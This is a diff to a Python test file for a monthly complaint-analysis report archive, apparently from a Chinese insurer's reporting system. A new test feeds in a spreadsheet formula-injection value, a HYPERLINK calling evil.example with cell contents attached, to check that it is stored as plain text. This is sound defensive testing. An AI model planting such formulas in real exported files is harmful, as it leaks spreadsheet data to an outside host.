@@ -93,9 +93,8 @@ def test_the_job_archives_once_and_notifies_the_decision_makers(october, api, us
     book = load_workbook(io.BytesIO(xlsx.content))
     summary = book.worksheets[0]
     values = [[c.value for c in row] for row in summary.iter_rows()]
-    assert any(r[1] in (2, "2") for r in values if r and r[0] == "投诉总数") or any(
-        2 in r or "2" in r for r in values[2:4]
-    )
+    assert values[0] == ["广东省分公司 客户投诉分析表", "2026-10"]
+    assert values[2][1] == 2  # the first figure: complaints received in the month
     pdf = client.get(f"/api/reports/archives/{rows[0]['id']}/pdf/")
     assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF") and b"/ByteRange" in pdf.content
     other = _archives().get(org_unit__code="ZJ", month=dt.date(2026, 10, 1))
@@ -113,3 +112,14 @@ def test_the_archive_lists_every_month_after_a_missed_run(october, api):
     assert months == [dt.date(2026, 10, 1), dt.date(2026, 11, 1), dt.date(2026, 12, 1)]
     listing = api("compliance.ho").get("/api/reports/archives/").json()["results"]
     assert {r["month"][:7] for r in listing if r["kind"] == ARCHIVE_KIND} == {"2026-10", "2026-11", "2026-12"}
+
+
+def test_text_that_looks_like_a_formula_is_archived_as_text(users):
+    complaint_users()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    complaint_make(org="GD-SZ", product=hostile, received_at=dt.datetime(2026, 10, 9, 9, tzinfo=TZ))
+    complaint_analysis_archive(today=first_workday_of_month(NOV_2026))
+    archive = _archives().get(org_unit__code="GD", month=dt.date(2026, 10, 1))
+    book = load_workbook(io.BytesIO(bytes(archive.xlsx)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
